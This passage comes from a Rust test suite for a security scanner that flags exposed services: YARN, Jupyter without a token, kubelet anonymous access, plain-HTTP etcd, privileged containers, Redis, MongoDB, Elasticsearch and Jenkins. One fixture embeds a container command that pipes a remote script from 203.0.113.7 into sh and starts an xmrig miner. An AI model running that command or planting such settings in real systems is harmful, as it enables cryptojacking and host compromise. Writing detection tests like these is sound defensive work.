            &site_xml(&[
                ("hadoop.security.authentication", "kerberos"),
                ("hadoop.http.authentication.type", "kerberos"),
            ]),
        ),
        (
            "/usr/local/hadoop-secure/etc/hadoop/yarn-site.xml",
            &site_xml(&[("yarn.resourcemanager.hostname", "0.0.0.0")]),
        ),
        (
            "/opt/hadoop/etc/hadoop/yarn-site.xml",
            &site_xml(&[(
                "yarn.resourcemanager.webapp.address",
                "${yarn.resourcemanager.hostname}:8088",
            ), ("yarn.resourcemanager.hostname", "localhost")]),
        ),
    ]);
    // The packages' name for the tutorial's directory: one finding for the two names.
    std::fs::create_dir_all(t.path().join("etc/hadoop")).unwrap();
    std::os::unix::fs::symlink(d, t.path().join("etc/hadoop/conf")).unwrap();
    let out = exposure(&t);
    assert!(out.errors.is_empty(), "{:#?}", out.errors);
    let f = with_id(&out.findings, "exposure.yarn-no-auth");
    assert_eq!(f.len(), 3, "{f:#?}");
    let by = |s: &str| {
        f.iter()
            .find(|f| f.subject.starts_with(s))
            .unwrap_or_else(|| panic!("{s}: {f:#?}"))
    };
    let tut = by(d);
    assert_eq!(tut.severity, Severity::High);
    assert_eq!(
        tut.evidence[0].line,
        Some(name_line(&tutorial, "yarn.resourcemanager.hostname"))
    );
    assert!(tut.attack.iter().any(|a| a == "T1190"));
    let untouched = by("/data/bigdata/hadoop-3.1.3/");
    assert_eq!(untouched.severity, Severity::Medium);
    assert!(untouched
        .detail
        .as_deref()
        .unwrap()
        .contains("sets nothing"));
    let unit = by("/srv/yarn/conf/");
    assert_eq!(unit.severity, Severity::Critical);
    assert!(unit.evidence[0]
        .excerpt
        .as_deref()
        .unwrap()
        .starts_with("yarn.resourcemanager.bind-host = 0.0.0.0"));
    assert!(unit.detail.as_deref().unwrap().contains("spoofed"));

    // Malformed XML: an error with file:line, no finding from that file.
    w(
        t.path(),
        "/srv/yarn/conf/yarn-site.xml",
        "<configuration>\n<property>\n<name>x</name>\n</configuration>\n",
    );
    let out = exposure(&t);
    assert_eq!(with_id(&out.findings, "exposure.yarn-no-auth").len(), 3);
    assert_eq!(out.errors.len(), 1, "{:#?}", out.errors);
    assert_eq!(
        out.errors[0].path.as_deref(),
        Some("/srv/yarn/conf/yarn-site.xml")
    );
    assert_eq!(out.errors[0].line, Some(4));
}

/// The lines the Jupyter tutorials add to `jupyter notebook --generate-config`'s file "to
/// reach it from another machine".
const JUPYTER_OPEN: &str = "c.NotebookApp.ip = '*'\nc.NotebookApp.token = ''\nc.NotebookApp.open_browser = False\nc.NotebookApp.port = 8888\nc.NotebookApp.allow_root = True\n";

#[test]
fn jupyter_stock_unit_quiet_then_token_switched_off() {
    let Some(pkg) = stock(&["jupyter-notebook"]) else {
        return;
    };
    let passwd2 = "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n";
    let t = host(&[("/etc/passwd", passwd2)]);
    let unit = "/usr/lib/systemd/user/jupyter-notebook.service";
    copy(pkg.path(), t.path(), unit, unit);
    // A token by default, a password, loopback only: quiet.
    w(
        t.path(),
        "/home/alice/.jupyter/jupyter_notebook_config.py",
        "c.NotebookApp.open_browser = False\n",
    );
    w(t.path(), "/root/.jupyter/jupyter_notebook_config.py", &format!("{JUPYTER_OPEN}c.NotebookApp.password = u'sha1:4f1b7c5a9e2d:0c5d3b8b4ea0a5e2e6b1f1e1a7d9c2b3f4e5d6c7'\n"));
    w(
        t.path(),
        "/etc/jupyter/jupyter_server_config.json",
        "{\"ServerApp\": {\"token\": \"\", \"ip\": \"127.0.0.1\"}}\n",
    );
    let out = exposure(&t);
    assert!(out.findings.is_empty(), "{:#?}", out.findings);
    assert!(out.errors.is_empty(), "{:#?}", out.errors);

    // root's file as the tutorials leave it; alice's JSON for Jupyter Server; the package's
    // user unit overridden by the administrator with the flags.
    w(
        t.path(),
        "/root/.jupyter/jupyter_notebook_config.py",
        &format!(
            "# Configuration file for jupyter-notebook.\nc = get_config()  #noqa\n{JUPYTER_OPEN}"
        ),
    );
    w(
        t.path(),
        "/home/alice/.jupyter/jupyter_server_config.json",
        "{\n  \"ServerApp\": {\n    \"ip\": \"10.0.0.8\"\n  },\n  \"IdentityProvider\": {\n    \"token\": \"\"\n  }\n}\n",
    );
    w(
        t.path(),
        "/etc/systemd/user/jupyter-notebook.service.d/override.conf",
        "[Service]\nExecStart=\nExecStart=/usr/bin/jupyter-notebook --no-browser --ip=0.0.0.0 --NotebookApp.token= --NotebookApp.password=''\n",
    );
    let out = exposure(&t);
    assert!(out.errors.is_empty(), "{:#?}", out.errors);
    let f = with_id(&out.findings, "exposure.jupyter-no-auth");
    assert_eq!(f.len(), 3, "{f:#?}");
    let by = |s: &str| {
        f.iter()
            .find(|f| f.subject == s)
            .unwrap_or_else(|| panic!("{s}: {f:#?}"))
    };
    let root = by("/root/.jupyter/jupyter_notebook_config.py");
    assert_eq!(root.severity, Severity::Critical);
    assert_eq!(root.evidence[0].line, Some(4));
    assert_eq!(
        root.evidence[0].excerpt.as_deref(),
        Some("c.NotebookApp.token = ''")
    );
    assert_eq!(root.evidence[1].line, Some(3));
    let alice = by("/home/alice/.jupyter/jupyter_server_config.json");
    assert_eq!(alice.severity, Severity::High);
    assert_eq!(alice.evidence[0].line, Some(6));
    let unit = by("/etc/systemd/user/jupyter-notebook.service.d/override.conf");
    assert_eq!(unit.severity, Severity::Critical);
    assert_eq!(unit.evidence[0].line, Some(3));
    assert!(unit.attack.iter().any(|a| a == "T1190"));
}

#[test]
fn jupyter_containers_and_generated_config() {
    let t = host(&[
        (
            "/var/lib/docker/containers/j1/config.v2.json",
            r#"{"Name":"/lab","Config":{"Image":"jupyter/base-notebook","Entrypoint":["tini","-g","--"],"Cmd":["start-notebook.sh","--NotebookApp.token=","--NotebookApp.password="]}}"#,
        ),
        (
            "/var/lib/docker/containers/j1/hostconfig.json",
            r#"{"PortBindings":{"8888/tcp":[{"HostIp":"","HostPort":"8888"}]}}"#,
        ),
        (
            "/var/lib/docker/containers/j2/config.v2.json",
            r#"{"Name":"/lab2","Config":{"Image":"jupyter/base-notebook","Cmd":["start-notebook.sh","--NotebookApp.token=''"]}}"#,
        ),
        ("/var/lib/docker/containers/j2/hostconfig.json", "{}"),
        // A token given on the command line: not in the report.
        (
            "/etc/supervisor/conf.d/jl.conf",
            "[program:jl]\ncommand=/opt/conda/bin/jupyter lab --ip=0.0.0.0 --ServerApp.token=Sup3rS3cretTok\n",
        ),
    ]);
    let out = exposure(&t);
    let f = with_id(&out.findings, "exposure.jupyter-no-auth");
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!(f[0].subject, "/var/lib/docker/containers/j1/config.v2.json");
    assert_eq!(f[0].severity, Severity::Critical);
    assert!(!format!("{out:?}").contains("Sup3rS3cretTok"));

    // The file `jupyter notebook --generate-config` writes (every line a comment): quiet;
    // with the tutorial's lines appended: found.
    let gen = std::process::Command::new("jupyter-notebook")
        .arg("--generate-config")
        .arg("-y")
        .env("JUPYTER_CONFIG_DIR", t.path().join("gen"))
        .output();
    let generated = t.path().join("gen/jupyter_notebook_config.py");
    if !gen.is_ok_and(|o| o.status.success()) || !generated.exists() {
        eprintln!("skipped the generated-config half: jupyter-notebook not installed (apt-get install jupyter-notebook)");
        return;
    }
    let conf = std::fs::read_to_string(&generated).unwrap();
    assert!(
        conf.contains("# c.NotebookApp.token = '<generated>'")
            || conf.contains("#c.NotebookApp.token = '<generated>'"),
        "{conf}"
    );
    let t = host(&[("/root/.jupyter/jupyter_notebook_config.py", &conf)]);
    assert!(exposure(&t).findings.is_empty());
    w(
        t.path(),
        "/root/.jupyter/jupyter_notebook_config.py",
        &format!("{conf}\n{JUPYTER_OPEN}"),
    );
    let out = exposure(&t);
    let f = with_id(&out.findings, "exposure.jupyter-no-auth");
    assert_eq!(f.len(), 1, "{:#?}", out.findings);
    assert_eq!(f[0].evidence[0].line, Some(conf.lines().count() as u64 + 3));
}

/// kubeadm's `/var/lib/kubelet/config.yaml`, in the shape `kubeadm init` writes it (the
/// KubeletConfiguration v1beta1 fields of the Kubernetes documentation).
const KUBEADM_KUBELET: &str = "apiVersion: kubelet.config.k8s.io/v1beta1\nauthentication:\n  anonymous:\n    enabled: false\n  webhook:\n    cacheTTL: 0s\n    enabled: true\n  x509:\n    clientCAFile: /etc/kubernetes/pki/ca.crt\nauthorization:\n  mode: Webhook\n  webhook:\n    cacheAuthorizedTTL: 0s\n    cacheUnauthorizedTTL: 0s\ncgroupDriver: systemd\nclusterDNS:\n- 10.96.0.10\nclusterDomain: cluster.local\nkind: KubeletConfiguration\nstaticPodPath: /etc/kubernetes/manifests\n";

/// kubeadm's drop-in of kubelet.service (its documented shape).
const KUBEADM_DROPIN: &str = "[Service]\nEnvironment=\"KUBELET_KUBECONFIG_ARGS=--bootstrap-kubeconfig=/etc/kubernetes/bootstrap-kubelet.conf --kubeconfig=/etc/kubernetes/kubelet.conf\"\nEnvironment=\"KUBELET_CONFIG_ARGS=--config=/var/lib/kubelet/config.yaml\"\nEnvironmentFile=-/var/lib/kubelet/kubeadm-flags.env\nEnvironmentFile=-/etc/default/kubelet\nExecStart=\nExecStart=/usr/bin/kubelet $KUBELET_KUBECONFIG_ARGS $KUBELET_CONFIG_ARGS $KUBELET_KUBEADM_ARGS $KUBELET_EXTRA_ARGS\n";

/// kubeadm's etcd static pod, the lines that matter.
const KUBEADM_ETCD: &str = "apiVersion: v1\nkind: Pod\nmetadata:\n  name: etcd\n  namespace: kube-system\nspec:\n  containers:\n  - command:\n    - etcd\n    - --advertise-client-urls=https://10.0.0.5:2379\n    - --cert-file=/etc/kubernetes/pki/etcd/server.crt\n    - --client-cert-auth=true\n    - --data-dir=/var/lib/etcd\n    - --listen-client-urls=https://127.0.0.1:2379,https://10.0.0.5:2379\n    - --trusted-ca-file=/etc/kubernetes/pki/etcd/ca.crt\n    image: registry.k8s.io/etcd:3.5.12-0\n    name: etcd\n  hostNetwork: true\n";

#[test]
fn kubelet_kubeadm_quiet_then_anonymous_always_allow() {
    let dropin = "/usr/lib/systemd/system/kubelet.service.d/10-kubeadm.conf";
    let t = host(&[
        ("/usr/lib/systemd/system/kubelet.service", "[Service]\nExecStart=/usr/bin/kubelet\nRestart=always\n"),
        (dropin, KUBEADM_DROPIN),
        ("/var/lib/kubelet/config.yaml", KUBEADM_KUBELET),
        ("/var/lib/kubelet/kubeadm-flags.env", "KUBELET_KUBEADM_ARGS=\"--container-runtime-endpoint=unix:///var/run/containerd/containerd.sock --pod-infra-container-image=registry.k8s.io/pause:3.9\"\n"),
        (ETCD_MANIFEST_PATH, KUBEADM_ETCD),
    ]);
    let out = exposure(&t);
    assert!(out.findings.is_empty(), "{:#?}", out.findings);
    assert!(out.errors.is_empty(), "{:#?}", out.errors);

    // The config file opened as the campaigns find it.
    let open = KUBEADM_KUBELET
        .replace("    enabled: false\n", "    enabled: true\n")
        .replace("  mode: Webhook\n", "  mode: AlwaysAllow\n")
        + "readOnlyPort: 10255\n";
    w(t.path(), "/var/lib/kubelet/config.yaml", &open);
    let out = exposure(&t);
    let a = with_id(&out.findings, "exposure.kubelet-anonymous");
    assert_eq!(a.len(), 1, "{:#?}", out.findings);
    assert_eq!(a[0].severity, Severity::Critical);
    assert_eq!(a[0].subject, "/var/lib/kubelet/config.yaml");
    assert_eq!(a[0].evidence[0].line, Some(4));
    assert_eq!(
        a[0].evidence[1].excerpt.as_deref(),
        Some("authorization.mode: AlwaysAllow")
    );
    let r = with_id(&out.findings, "exposure.kubelet-read-only-port");
    assert_eq!(r.len(), 1);
    assert_eq!(r[0].evidence[0].line, Some(open.lines().count() as u64));
    // A flag in /etc/default/kubelet wins over the file.
    w(
        t.path(),
        "/etc/default/kubelet",
        "KUBELET_EXTRA_ARGS=--anonymous-auth=false --read-only-port=0\n",
    );
    let out = exposure(&t);
    assert!(out.findings.is_empty(), "{:#?}", out.findings);

    // A kubelet started without a config file: the flags' defaults are open.
    let t = host(&[(
        "/etc/systemd/system/kubelet.service",
        "[Service]\nExecStart=/usr/local/bin/kubelet --kubeconfig=/etc/kubernetes/kubelet.conf\n",
    )]);
    let out = exposure(&t);
    let a = with_id(&out.findings, "exposure.kubelet-anonymous");
    assert_eq!(a.len(), 1, "{:#?}", out.findings);
    assert_eq!(a[0].subject, "/etc/systemd/system/kubelet.service");
    assert_eq!(
        with_id(&out.findings, "exposure.kubelet-read-only-port").len(),
        1
    );
}

const ETCD_MANIFEST_PATH: &str = "/etc/kubernetes/manifests/etcd.yaml";

#[test]
fn etcd_stock_debian_quiet_then_plain_http() {
    let Some(pkg) = stock(&["etcd-server"]) else {
        return;
    };
    let t = host(&[]);
    for f in [
        "/lib/systemd/system/etcd.service",
        "/etc/default/etcd",
        "/etc/init.d/etcd",
    ] {
        copy(pkg.path(), t.path(), f, f);
    }
    let out = exposure(&t);
    assert!(out.findings.is_empty(), "{:#?}", out.findings);
    assert!(out.errors.is_empty(), "{:#?}", out.errors);

    // The single-node tutorial's settings in /etc/default/etcd.
    let stock = std::fs::read_to_string(t.path().join("etc/default/etcd")).unwrap();
    let edited = format!("{stock}ETCD_LISTEN_CLIENT_URLS=\"http://0.0.0.0:2379\"\nETCD_ADVERTISE_CLIENT_URLS=\"http://10.0.0.5:2379\"\n");
    w(t.path(), "/etc/default/etcd", &edited);
    let out = exposure(&t);
    let f = with_id(&out.findings, "exposure.etcd-no-auth");
    assert_eq!(f.len(), 1, "{:#?}", out.findings);
    assert_eq!(f[0].severity, Severity::Critical);
    assert_eq!(f[0].evidence[0].path, "/etc/default/etcd");
    assert_eq!(
        f[0].evidence[0].line,
        Some(stock.lines().count() as u64 + 1)
    );

    // A --config-file with TLS but no client certificates: medium.
    w(
        t.path(),
        "/etc/default/etcd",
        &format!("{stock}DAEMON_ARGS=\"--config-file /etc/etcd/etcd.conf.yml\"\n"),
    );
    w(
        t.path(),
        "/etc/etcd/etcd.conf.yml",
        "name: node1\nlisten-client-urls: https://10.0.0.5:2379,https://127.0.0.1:2379\nclient-transport-security:\n  cert-file: /etc/etcd/server.crt\n  key-file: /etc/etcd/server.key\n  client-cert-auth: false\n",
    );
    let out = exposure(&t);
    let f = with_id(&out.findings, "exposure.etcd-no-auth");
    assert_eq!(f.len(), 1, "{:#?}", out.findings);
    assert_eq!(f[0].severity, Severity::Medium);
    assert_eq!(f[0].evidence[0].path, "/etc/etcd/etcd.conf.yml");
    assert_eq!(f[0].evidence[1].line, Some(6));
}

/// An OCI runtime configuration as Podman 4 writes it to `userdata/config.json` (the fields
/// of the OCI runtime specification that matter; `caps` is the bounding set, `ns` the
/// namespaces, `mounts` extra (source, destination) binds).
fn oci_config(args: &[&str], caps: &[&str], ns: &[&str], mounts: &[(&str, &str)]) -> String {
    let q = |v: &[&str]| {
        v.iter()
            .map(|s| serde_json::to_string(s).unwrap())
            .collect::<Vec<_>>()
            .join(",")
    };
    let mut m = vec![r#"{"destination":"/proc","type":"proc","source":"proc","options":["nosuid","noexec","nodev"]}"#.to_owned()];
    for (src, dst) in mounts {
        m.push(format!(
            r#"{{"destination":"{dst}","type":"bind","source":"{src}","options":["rbind","rw"]}}"#
        ));
    }
    let ns: Vec<String> = ns.iter().map(|n| format!(r#"{{"type":"{n}"}}"#)).collect();
    format!(
        r#"{{"ociVersion":"1.1.0","process":{{"user":{{"uid":0,"gid":0}},"args":[{}],"env":["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin","container=podman"],"cwd":"/","capabilities":{{"bounding":[{}],"effective":[{}]}}}},"root":{{"path":"/var/lib/containers/storage/overlay/4e1c/merged"}},"hostname":"c0ffee","mounts":[{}],"annotations":{{"io.container.manager":"libpod"}},"linux":{{"namespaces":[{}]}}}}"#,
        q(args),
        q(caps),
        q(caps),
        m.join(","),
        ns.join(",")
    )
}

const PODMAN_CAPS: &[&str] = &[
    "CAP_CHOWN",
    "CAP_DAC_OVERRIDE",
    "CAP_FOWNER",
    "CAP_FSETID",
    "CAP_KILL",
    "CAP_NET_BIND_SERVICE",
    "CAP_SETFCAP",
    "CAP_SETGID",
    "CAP_SETPCAP",
    "CAP_SETUID",
    "CAP_SYS_CHROOT",
];
const ALL_NS: &[&str] = &["pid", "network", "ipc", "uts", "mount", "cgroup"];

#[test]
fn docker_data_root_and_podman_containers() {
    let mut privileged: Vec<&str> = PODMAN_CAPS.to_vec();
    privileged.extend(["CAP_SYS_ADMIN", "CAP_SYS_MODULE", "CAP_SYS_PTRACE"]);
    let miner = oci_config(
        &["/bin/sh", "-c", "curl -fsSL http://203.0.113.7/d.sh | sh; /tmp/.x/xmrig -o pool.supportxmr.com:443 --donate-level 1"],
        &privileged,
        &["network", "ipc", "uts", "mount"],
        &[("/", "/host")],
    );
    let web = oci_config(
        &["nginx", "-g", "daemon off;"],
        PODMAN_CAPS,
        ALL_NS,
        &[("/srv/www", "/usr/share/nginx/html")],
    );
    let t = host(&[
        ("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n"),
        // Docker moved to a data disk by daemon.json, and a second daemon by a drop-in flag.
        ("/etc/docker/daemon.json", "{\n  \"data-root\": \"/data/docker\"\n}\n"),
        (
            "/etc/systemd/system/docker.service.d/data.conf",
            "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// --data-root=/mnt/d2\n",
        ),
        ("/data/docker/containers/7d1c0e5b2a/config.v2.json", PRIV_MINER_CONFIG),
        ("/data/docker/containers/7d1c0e5b2a/hostconfig.json", PRIV_MINER_HOST),
        (
            "/mnt/d2/containers/r1/config.v2.json",
            r#"{"Name":"/cache","Config":{"Image":"redis:7","Cmd":["redis-server","--protected-mode","no"]}}"#,
        ),
        (
            "/mnt/d2/containers/r1/hostconfig.json",
            r#"{"PortBindings":{"6379/tcp":[{"HostIp":"0.0.0.0","HostPort":"6379"}]}}"#,
        ),
        // Podman, rootful: a privileged miner with the host's / and PID namespace; a web
        // server; rootless in bob's home: a redis without protection.
        (
            "/var/lib/containers/storage/overlay-containers/containers.json",
            r#"[{"id":"aa01","names":["kind_babbage"],"image":"9f0e","layer":"41c2"},{"id":"bb02","names":["web"],"image":"77aa","layer":"e0d1"}]"#,
        ),
        ("/var/lib/containers/storage/overlay-containers/aa01/userdata/config.json", &miner),
        ("/var/lib/containers/storage/overlay-containers/bb02/userdata/config.json", &web),
        (
            "/home/bob/.local/share/containers/storage/overlay-containers/cc03/userdata/config.json",
            &oci_config(&["docker-entrypoint.sh", "redis-server", "--protected-mode", "no"], PODMAN_CAPS, ALL_NS, &[]),
        ),
    ]);
    let out = exposure(&t);
    assert!(out.errors.is_empty(), "{:#?}", out.errors);
    let m = with_id(&out.findings, "exposure.docker-malicious-container");
    assert_eq!(m.len(), 2, "{:#?}", out.findings);
    assert!(m.iter().any(|f| f.subject == "sleepy_kilby"
        && f.evidence[0].path == "/data/docker/containers/7d1c0e5b2a/config.v2.json"));
    let pm = m.iter().find(|f| f.subject == "kind_babbage").unwrap();
    assert_eq!(
        pm.evidence[0].path,
        "/var/lib/containers/storage/overlay-containers/aa01/userdata/config.json"
    );
    assert!(pm.evidence[0]
        .excerpt
        .as_deref()
        .unwrap()
        .starts_with("process.args: /bin/sh -c curl"));
    assert!(pm.attack.iter().any(|a| a == "T1611"));
    let e = with_id(&out.findings, "exposure.docker-container-escape");
    assert_eq!(e.len(), 2, "{e:#?}");
    let pe = e.iter().find(|f| f.subject == "kind_babbage").unwrap();
    assert_eq!(pe.severity, Severity::High);
    let ex: Vec<&str> = pe
        .evidence
        .iter()
        .filter_map(|e| e.excerpt.as_deref())
        .collect();
    assert!(ex.iter().any(|x| x.contains("(--privileged)")), "{ex:?}");
    assert!(
        ex.iter()
            .any(|x| x.contains("mounts: host / mounted at /host")),
        "{ex:?}"
    );
    assert!(ex.iter().any(|x| x.contains("no pid namespace")), "{ex:?}");
    // The two unprotected Redis: Docker's under the flag's data root, Podman's rootless one.
    let r = with_id(&out.findings, "exposure.redis-no-auth");
    assert_eq!(r.len(), 2, "{r:#?}");
    assert!(r
        .iter()
        .any(|f| f.subject == "/mnt/d2/containers/r1/config.v2.json"));
    assert!(r.iter().any(|f| {
        f.subject
        == "/home/bob/.local/share/containers/storage/overlay-containers/cc03/userdata/config.json"
    }));
    assert!(with_id(&out.findings, "exposure.docker-api").is_empty());
}

/// The mongod.conf of MongoDB's rpm and deb packages (its documented shape).
const MONGOD_CONF: &str = "# mongod.conf\n\n# for documentation of all options, see:\n#   http://docs.mongodb.org/manual/reference/configuration-options/\n\nstorage:\n  dbPath: /var/lib/mongo\n\nsystemLog:\n  destination: file\n  logAppend: true\n  path: /var/log/mongodb/mongod.log\n\nnet:\n  port: 27017\n  bindIp: 127.0.0.1  # Enter 0.0.0.0,:: to bind to all IPv4 and IPv6 addresses or, alternatively, use the net.bindIpAll setting.\n\nprocessManagement:\n  timeZoneInfo: /usr/share/zoneinfo\n\n#security:\n";

/// Elasticsearch 8's elasticsearch.yml after the package's security auto-configuration
/// (the shipped comments left out), and 7's, every line a comment.
const ES8_YML: &str = "path.data: /var/lib/elasticsearch\npath.logs: /var/log/elasticsearch\n#network.host: 192.168.0.1\n#----------------------- BEGIN SECURITY AUTO CONFIGURATION -----------------------\nxpack.security.enabled: true\nxpack.security.enrollment.enabled: true\nxpack.security.http.ssl:\n  enabled: true\n  keystore.path: certs/http.p12\ncluster.initial_master_nodes: [\"es01\"]\nhttp.host: 0.0.0.0\n";
const ES7_YML: &str = "# ======================== Elasticsearch Configuration =========================\n#cluster.name: my-application\n#network.host: 192.168.0.1\n#http.port: 9200\n";

#[test]
fn mongodb_and_elasticsearch() {
    let t = host(&[
        ("/etc/mongod.conf", MONGOD_CONF),
        ("/etc/elasticsearch/elasticsearch.yml", ES8_YML),
        (
            "/opt/elasticsearch-7.17.9/config/elasticsearch.yml",
            ES7_YML,
        ),
    ]);
    let out = exposure(&t);
    assert!(out.findings.is_empty(), "{:#?}", out.findings);
    assert!(out.errors.is_empty(), "{:#?}", out.errors);

    let open = MONGOD_CONF.replace("bindIp: 127.0.0.1", "bindIp: 0.0.0.0");
    w(t.path(), "/etc/mongod.conf", &open);
    w(
        t.path(),
        "/opt/elasticsearch-7.17.9/config/elasticsearch.yml",
        &format!(
            "{ES7_YML}network.host: 0.0.0.0\nhttp.port: 9200\nxpack.security.enabled: false\n"
        ),
    );
    // A second mongod started by a unit with its own flags.
    w(
        t.path(),
        "/etc/systemd/system/mongod-2.service",
        "[Service]\nExecStart=/usr/bin/mongod --port 27018 --bind_ip_all --dbpath /data/m2\n",
    );
    let out = exposure(&t);
    assert!(out.errors.is_empty(), "{:#?}", out.errors);
    let m = with_id(&out.findings, "exposure.mongodb-no-auth");
    assert_eq!(m.len(), 2, "{:#?}", out.findings);
    let conf = m.iter().find(|f| f.subject == "/etc/mongod.conf").unwrap();
    assert_eq!(conf.severity, Severity::Critical);
    assert_eq!(
        conf.evidence[0].line,
        Some(open.lines().position(|l| l.contains("bindIp")).unwrap() as u64 + 1)
    );
    let unit = m
        .iter()
        .find(|f| f.subject == "/etc/systemd/system/mongod-2.service")
        .unwrap();
    assert_eq!(unit.evidence[0].excerpt.as_deref(), Some("--bind_ip_all"));
    let e = with_id(&out.findings, "exposure.elasticsearch-no-auth");
    assert_eq!(e.len(), 1, "{:#?}", out.findings);
    assert_eq!(e[0].severity, Severity::Critical);
    assert_eq!(
        e[0].evidence[1].excerpt.as_deref(),
        Some("xpack.security.enabled: false")
    );
    // Access control on: quiet.
    w(
        t.path(),
        "/etc/mongod.conf",
        &format!("{open}security:\n  authorization: enabled\n"),
    );
    assert_eq!(
        with_id(&exposure(&t).findings, "exposure.mongodb-no-auth").len(),
        1
    );
}

/// A Jenkins `config.xml` after the setup wizard (its documented shape), with `security`
/// as the `<useSecurity>` value and `strategy` as the authorization strategy's class.
fn jenkins_config(security: &str, strategy: &str) -> String {
    format!("<?xml version='1.1' encoding='UTF-8'?>\n<hudson>\n  <disabledAdministrativeMonitors/>\n  <version>2.426.3</version>\n  <numExecutors>2</numExecutors>\n  <mode>NORMAL</mode>\n  <useSecurity>{security}</useSecurity>\n  <authorizationStrategy class=\"{strategy}\">\n    <denyAnonymousReadAccess>true</denyAnonymousReadAccess>\n  </authorizationStrategy>\n  <securityRealm class=\"hudson.security.HudsonPrivateSecurityRealm\">\n    <disableSignup>true</disableSignup>\n    <enableCaptcha>false</enableCaptcha>\n  </securityRealm>\n  <disableRememberMe>false</disableRememberMe>\n  <workspaceDir>${{JENKINS_HOME}}/workspace/${{ITEM_FULL_NAME}}</workspaceDir>\n</hudson>\n")
}

#[test]
fn jenkins_security_off() {
    let wizard = jenkins_config(
        "true",
        "hudson.security.FullControlOnceLoggedInAuthorizationStrategy",
    );
    let t = host(&[
        (
            "/etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nci:x:1001:1001::/home/ci:/bin/bash\n",
        ),
        ("/var/lib/jenkins/config.xml", &wizard),
        ("/var/jenkins_home/config.xml", &wizard),
    ]);
    let out = exposure(&t);
    assert!(out.findings.is_empty(), "{:#?}", out.findings);
    assert!(out.errors.is_empty(), "{:#?}", out.errors);
    w(
        t.path(),
        "/var/lib/jenkins/config.xml",
        &jenkins_config("false", "hudson.security.AuthorizationStrategy$Unsecured"),
    );
    w(
        t.path(),
        "/home/ci/.jenkins/config.xml",
        &jenkins_config("true", "hudson.security.AuthorizationStrategy$Unsecured"),
    );
    w(
        t.path(),
        "/var/jenkins_home/config.xml",
        "<hudson>\n<useSecurity>false</hudson>\n",
    );
    let out = exposure(&t);
    let f = with_id(&out.findings, "exposure.jenkins-no-auth");
    assert_eq!(f.len(), 2, "{:#?}", out.findings);
    let pkg = f
        .iter()
        .find(|f| f.subject == "/var/lib/jenkins/config.xml")
        .unwrap();
    assert_eq!(pkg.severity, Severity::Critical);
    assert_eq!(pkg.evidence[0].line, Some(7));
    assert_eq!(pkg.evidence[1].line, Some(8));
    assert!(f
        .iter()
        .any(|f| f.subject == "/home/ci/.jenkins/config.xml"));
    // A file that is not XML: an error with its path and line, no guess.
    assert_eq!(out.errors.len(), 1, "{:#?}", out.errors);
    assert_eq!(
        out.errors[0].path.as_deref(),
        Some("/var/jenkins_home/config.xml")
    );
    assert_eq!(out.errors[0].line, Some(2));
}
